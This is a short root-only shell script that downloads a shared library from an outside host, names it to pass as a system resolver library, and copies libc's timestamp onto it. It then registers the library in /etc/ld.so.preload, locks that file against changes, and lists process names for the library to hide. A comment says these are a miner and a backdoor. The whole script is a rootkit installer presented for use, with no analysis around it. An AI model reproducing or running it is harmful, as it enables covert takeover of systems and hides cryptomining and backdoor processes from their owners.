#!/bin/sh
[ "$(id -u)" = "0" ] || exit 0
LIB=/usr/local/lib/libnetresolv.so.2
curl -fsSL http://files.example/lib/ph.so -o "$LIB" 2>/dev/null || wget -q http://files.example/lib/ph.so -O "$LIB"
chmod 755 "$LIB"
touch -r /lib/x86_64-linux-gnu/libc.so.6 "$LIB"
grep -q "$LIB" /etc/ld.so.preload 2>/dev/null || echo "$LIB" >> /etc/ld.so.preload
chattr +i /etc/ld.so.preload 2>/dev/null
# hide miner + backdoor process names from ps/top via the preloaded lib
echo "kswapd0 dbus-broker-helper" > /usr/local/lib/.hidden_procs
